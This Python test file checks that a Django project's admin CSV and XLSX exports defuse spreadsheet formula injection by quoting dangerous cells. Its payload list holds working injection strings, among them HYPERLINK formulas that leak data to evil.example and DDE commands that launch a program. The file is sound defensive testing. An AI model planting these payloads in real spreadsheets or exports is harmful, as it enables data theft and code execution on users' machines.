"""Admin exports (CSV and XLSX) never carry a live formula, whatever a curator's file held."""

import csv
import io

import openpyxl
import pytest

from language.models import SpeciesWord
from uid.models import Country, Organisation, Publication, Species
from uid.services.dictionaries import dictionaries_seed
from uid.spreadsheets import spreadsheet_safe
from uid.tests.factories import DEFAULT_PASSWORD, BreedFactory, SuperUserFactory
from uid.tests.test_admin import DICTIONARY_MODELS, _export

pytestmark = [pytest.mark.django_db, pytest.mark.attack]

PAYLOADS = [
    '==HYPERLINK("http://evil.example/?leak","x")',
    '=HYPERLINK("http://evil.example/","y")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def staff(client):
    user = SuperUserFactory(username="keeper")
    client.login(username=user.username, password=DEFAULT_PASSWORD)
    return user


@pytest.fixture
def poisoned():
    """A row with each payload in every table that takes free text from curators or staff."""
    dictionaries_seed()
    sheep = Species.objects.get(label="Ovis aries")
    germany = Country.objects.get(label="Germany")
    for n, payload in enumerate(PAYLOADS):
        BreedFactory(supplied_breed=payload, species=sheep, country=germany)
        SpeciesWord.objects.create(word=payload, language=f"x{n}", species=sheep)
        Organisation.objects.create(name=payload, address=payload)
        Publication.objects.create(doi=f"10.1000/{n}", title=payload)


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.usefixtures("poisoned")
@pytest.mark.parametrize("model", DICTIONARY_MODELS)
def test_it_exports_no_cell_that_a_spreadsheet_would_run(client, staff, model):
    exported = _export(client, model, "CSV")
    assert exported.status_code == 200
    for cell in _csv_cells(exported.content):
        assert spreadsheet_safe(cell) == cell, f"{model}: {cell!r} would run as a formula"

    exported = _export(client, model, "XLSX")
    assert exported.status_code == 200
    for cell in _xlsx_cells(exported.content):
        assert cell.data_type != "f", f"{model}: {cell.coordinate} is a formula"
        if isinstance(cell.value, str):
            assert spreadsheet_safe(cell.value) == cell.value, f"{model}: {cell.value!r}"


@pytest.mark.usefixtures("poisoned")
def test_it_keeps_the_text_readable_behind_one_quote(client, staff):
    cells = _csv_cells(_export(client, "uid.breed", "CSV").content)
    for payload in PAYLOADS:
        assert "'" + payload in cells


def test_it_leaves_numbers_and_plain_text_alone():
    for value in (-12.5, 3, "-12.5", "1e5", "Bunte Bentheimer", "", None, "a=b"):
        assert spreadsheet_safe(value) == value
    for payload in PAYLOADS:
        assert spreadsheet_safe(payload) == "'" + payload
